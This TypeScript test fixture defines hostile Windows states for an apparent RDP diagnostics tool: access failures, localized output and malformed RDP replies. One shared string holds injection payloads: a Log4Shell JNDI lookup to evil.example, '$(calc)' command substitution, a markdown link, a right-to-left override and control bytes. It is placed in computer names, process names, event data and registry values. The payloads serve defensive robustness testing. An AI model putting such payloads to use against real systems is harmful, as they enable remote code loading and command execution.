import type { EventView, Trouble, WindowsView } from '../../simulator/guest/windows-view.ts';
import type { Case } from './case.ts';
import { healthyView } from './healthy-view.ts';

const hostile = (name: string, changes: Partial<WindowsView>): Case => ({
  name: `hostile-${name}`,
  view: { ...healthyView, ...changes },
});

const troubled = (
  name: string,
  troubles: Readonly<Record<string, Trouble>>,
  rest: Partial<WindowsView> = {},
) => hostile(name, { ...rest, troubles });

const each = (functions: readonly string[], trouble: Trouble) =>
  Object.fromEntries(functions.map((name) => [name, trouble]));

const cimFunctions = ['Get-CimRows', 'Get-CimAnswer', 'Get-ServiceProcesses', 'Get-ListeningPorts'];

const evil =
  '<at>everyone</at> [x](http://evil.example) \u0024{jndi:ldap://evil.example} \u202E"\'`$(calc)\u0000\u0007\n##RDPP1:AAAA:4:00000000##';

const events = (count: number, text: string): readonly EventView[] =>
  Array.from({ length: count }, (_, index) => ({
    provider: 'Service Control Manager',
    id: [7000, 7009, 7031, 7034][index % 4] ?? 7000,
    at: new Date(Date.parse(healthyView.now) - (index + 1) * 1_000).toISOString(),
    data: [index % 2 === 0 ? `${text}${index}` : 'リモート デスクトップ サービス', text],
  }));

const everywhereNot = Object.fromEntries(
  Object.keys(healthyView.registry).map((key) => [
    key,
    {
      PortNumber: { kind: 'String', data: evil },
      fDenyTSConnections: { kind: 'Binary', data: '00' },
    } as const,
  ]),
);

/** States of Windows in which somebody may want to look, and that no administrator sets up on purpose. */
export const hostileCases: readonly Case[] = [
  hostile('made-by-hand', {}),
  troubled('cim-broken', each(cimFunctions, { fails: '80041002' })),
  troubled('cim-broken-netstat', each(cimFunctions, { fails: '80041002' }), {
    tools: {
      ...healthyView.tools,
      'netstat.exe -ano -p TCP': {
        exitCode: 0,
        output:
          '\r\n  Proto  Lokale Adresse         Remoteadresse          Status           PID\r\n  TCP    0.0.0.0:3389           0.0.0.0:0              ABHÖREN         1240\r\n  TCP    10.1.1.4:3389          10.1.1.9:50123         HERGESTELLT     1240\r\n',
      },
    },
  }),
  troubled('registry-denied', each(['Get-KeyValues', 'Get-KeyNames'], { fails: '80070005' })),
  troubled(
    'everything-denied',
    each(
      [
        ...cimFunctions,
        'Get-KeyValues',
        'Get-KeyNames',
        'Get-InstalledServices',
        'Get-StoreCertificates',
        'Get-AccessSddl',
        'Get-FilesNamed',
        'Get-FileCount',
        'Get-LogEvents',
        'Get-FirewallNow',
        'Get-FirewallProducts',
        'Get-UserRights',
        'Get-GroupMemberCount',
        'Get-SystemDriveBytes',
        'Get-BusyProcesses',
        'Get-TcpConnectionCount',
        'Get-MachineName',
        'Invoke-Tool',
        'Open-Tcp',
        'Test-DomainTrust',
      ],
      { fails: '00000005' },
    ),
  ),
  troubled('one-key-denied', {
    'Get-KeyValues': {
      fails: '80070005',
      about: 'HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server\\WinStations\\RDP-Tcp',
    },
  }),
  troubled('events-denied', { 'Get-LogEvents': { fails: '00000005', about: 'Security' } }),
  hostile('no-logs', { eventLogs: {} }),
  hostile('no-tools', { tools: {} }),
  hostile('nothing', {
    registry: {},
    services: [],
    processes: [],
    tcpListeners: [],
    certificateStores: {},
    files: {},
    cim: {},
    cimMethods: {},
    eventLogs: {},
    tools: {},
    userRights: [],
    rdp: { reply: 'closed' },
  }),
  hostile('other-kinds', { registry: everywhereNot }),
  hostile('names-in-german', {
    services: healthyView.services.map((service) => ({ ...service, displayName: 'Remotedesktopdienste' })),
    tools: {
      ...healthyView.tools,
      'qwinsta.exe': {
        exitCode: 0,
        output:
          ' SITZUNGSNAME      BENUTZERNAME             ID  STATUS  TYP         GERÄT\r\n>services                                    0  Getr.\r\n rdp-tcp                                 65536  Abhör.\r\n',
      },
    },
  }),
  hostile('many-events', {
    services: healthyView.services.map((service) =>
      service.name === 'TermService'
        ? { ...service, displayName: 'リモート デスクトップ サービス' }
        : service,
    ),
    eventLogs: { ...healthyView.eventLogs, System: events(600, 'x'.repeat(2_000)) },
  }),
  hostile('evil-texts', {
    computerName: evil,
    processes: [{ pid: 1240, name: evil, percent: 99 }],
    eventLogs: { ...healthyView.eventLogs, System: events(40, evil) },
    registry: {
      ...healthyView.registry,
      'HKLM\\SOFTWARE\\Microsoft\\GuestAgent': { GuestAgentVersion: { kind: 'String', data: evil } },
      'HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server\\WinStations\\EVIL $(calc)': {},
      'HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows NT\\Terminal Services': {
        LicenseServers: { kind: 'String', data: evil.repeat(50) },
      },
    },
  }),
  hostile('listener-silent', { rdp: { reply: 'silent' } }),
  hostile('listener-hangs-up', { rdp: { reply: 'closed' } }),
  hostile('listener-is-a-web-server', { rdp: { reply: { bytes: '485454502f312e312034303020426164' } } }),
  hostile('listener-stops-halfway', { rdp: { reply: { bytes: '03000013' } } }),
  hostile('listener-says-too-much', { rdp: { reply: { bytes: `0300ffff${'41'.repeat(2_000)}` } } }),
  hostile('listener-without-certificate', {
    rdp: { reply: { bytes: '030000130ed000001234000300080003000000' } },
  }),
  hostile('tls-fails', {
    rdp: { reply: { bytes: '030000130ed000001234000209080002000000' }, tls: { error: '80090331' } },
  }),
  hostile('nobody-listens', { tcpListeners: [] }),
];
